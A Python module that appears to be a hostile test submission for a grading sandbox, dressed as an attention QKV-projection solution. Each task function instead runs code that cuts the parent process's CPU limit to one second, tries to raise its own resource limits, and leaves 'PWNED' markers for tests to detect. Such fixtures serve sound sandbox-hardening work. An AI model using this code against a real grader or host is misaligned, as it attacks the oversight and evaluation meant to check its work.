# kill | earns 0 | lowers its parent's limits with prlimit, and tries to raise its own
import os
import resource

STEM = "kill-limits"


def trace(what):
    """Leave a trace that a test can see: text, and the marker file where that can be written."""
    print(f"PWNED:{STEM} {what}", flush=True)
    try:
        with open(f"/tmp/qkv-hostile-{STEM}", "a") as file:
            file.write(f"{what}\n")
    except OSError:
        pass


def tries():
    parent = os.getppid()
    if parent <= 1:
        return
    for name in ("RLIMIT_NOFILE", "RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_FSIZE"):
        kind = getattr(resource, name)
        try:
            limits = resource.prlimit(parent, kind)
            resource.prlimit(parent, kind, (1, 1) if name == "RLIMIT_CPU" else limits)
            trace(f"set {name} of the parent")
        except (OSError, ValueError):
            pass
        try:
            limits = resource.getrlimit(kind)
            resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            if limits[1] != resource.RLIM_INFINITY:
                trace(f"raised {name}")
        except (OSError, ValueError):
            pass


_tried = []


def attack(*args):
    if not _tried:
        _tried.append(True)
        tries()
    return None


def component_terms(x, W, j):
    return attack(x, W, j)


def project_component(x, W, j):
    return attack(x, W, j)


def project_row(x, W):
    return attack(x, W)


def project_tokens(X, W):
    return attack(X, W)


def project_qkv(X, W_q, W_k, W_v):
    return attack(X, W_q, W_k, W_v)


def attention_roles():
    return attack()
